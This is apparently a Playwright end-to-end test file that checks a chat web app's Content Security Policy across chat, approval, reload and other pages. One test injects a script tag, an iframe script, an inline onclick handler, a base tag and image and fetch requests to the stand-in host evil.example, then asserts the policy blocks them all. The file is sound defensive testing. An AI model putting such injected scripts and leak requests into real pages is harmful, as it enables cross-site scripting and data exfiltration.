"""The page works under the policy that it is sent, wherever one goes on it, and the policy is in force."""

from playwright.sync_api import expect

from tests.e2e.page.refresh.cards import AFTER, BEFORE, asks, is_decided
from tests.e2e.page.security.conftest import Watched
from tests.support.chat_page import ChatPage
from tests.support.llm_server import ScriptedProvider
from tests.support.smtp_server import SmtpServer

RICH = (
    "# Title\n\nText with `code`, **strong** and a [link](https://a.example).\n\n",
    "```python\ndef answer(n: int) -> int:\n    return n * 42  # why\n```\n\n",
    "| a | b |\n| --- | --- |\n| 1 | 2 |\n\n",
    "$e^{i\\pi} + 1 = 0$ and \\(x^2\\)\n\n1. one\n2. two\n\n> quoted\n",
)


def test_nothing_that_the_page_does_is_forbidden_to_it(
    strict: Watched, provider: ScriptedProvider, mail_server: SmtpServer
) -> None:
    chat = strict.tab().open()
    provider.script().reason("Let me think. ").say(*RICH)
    chat.say("Everything, please")
    chat.ended("complete")
    expect(chat.page.locator("math")).to_have_count(2)
    asks(chat, provider)
    provider.say(AFTER)
    chat.element("approve").click()
    chat.shows(BEFORE + AFTER)
    is_decided(chat, "completed", "Approved")
    chat.reload()
    chat.shows(BEFORE + AFTER)
    chat.simulate_refresh()
    chat.element("new-session").click()
    expect(chat.page.locator('html[data-ready="new"]')).to_have_count(1)
    chat.element("session-item").first.click()
    chat.named()
    chat.ready()
    strict.is_clean()


def test_neither_does_it_forbid_anything_on_the_other_pages(
    strict: Watched, provider: ScriptedProvider
) -> None:
    page = strict.tab().page
    page.goto(f"{strict.url}/there/is/nothing")
    expect(page.get_by_role("heading")).to_have_text("There is nothing here.")
    page.goto(f"{strict.url}/api/docs")
    expect(page.locator(".opblock").first).to_be_visible()
    page.locator(".opblock").first.click()
    expect(page.locator(".opblock.is-open .opblock-body").first).to_be_visible()
    page.goto(f"{strict.url}/forgotten.html")
    expect(page.get_by_role("heading")).to_have_text("This browser is forgotten.")
    strict.is_clean()


def test_a_document_that_has_to_be_drawn_anew_still_works(
    strict: Watched, provider: ScriptedProvider
) -> None:
    """An extension that changes the document before it runs makes React draw it again, its scripts included:
    the reason why the page asks for no Trusted Types."""
    chat = strict.tab()
    chat.page.add_init_script(
        """new MutationObserver((_, seen) => {
          const main = document.querySelector("main");
          if (main) seen.disconnect(), main.remove();
        }).observe(document, { subtree: true, childList: true })"""
    )
    chat.open()
    provider.say("Here")
    chat.say("Still there?")
    chat.shows("Here")
    strict.is_clean()


def test_what_got_into_the_page_all_the_same_can_do_nothing(
    strict: Watched, provider: ScriptedProvider
) -> None:
    chat = strict.tab().open()
    chat.page.evaluate(
        """() => {
          const put = (name, values) =>
            document.body.append(Object.assign(document.createElement(name), values));
          put("script", { textContent: "window.owned = 1" });
          put("iframe", { srcdoc: "<script>top.owned = 2</" + "script>" });
          put("img", { src: "https://evil.example/leak.png" });
          document.body.insertAdjacentHTML("beforeend", "<b onclick='window.owned = 3'>b</b>");
          document.body.lastElementChild.click();
          put("base", { href: "https://evil.example/" });
          fetch("https://evil.example/leak").catch(() => {});
        }"""
    )
    _is_forbidden(chat, strict, "script-src-elem", "script-src-attr", "img-src", "base-uri", "connect-src")
    assert chat.page.evaluate("window.owned ?? null") is None
    assert strict.answered == []


def _is_forbidden(chat: ChatPage, strict: Watched, *directives: str) -> None:
    for directive in directives:
        for _ in range(200):
            if any(directive in told for told in strict.violations):
                break
            chat.page.wait_for_timeout(25)
        assert any(directive in told for told in strict.violations), directive
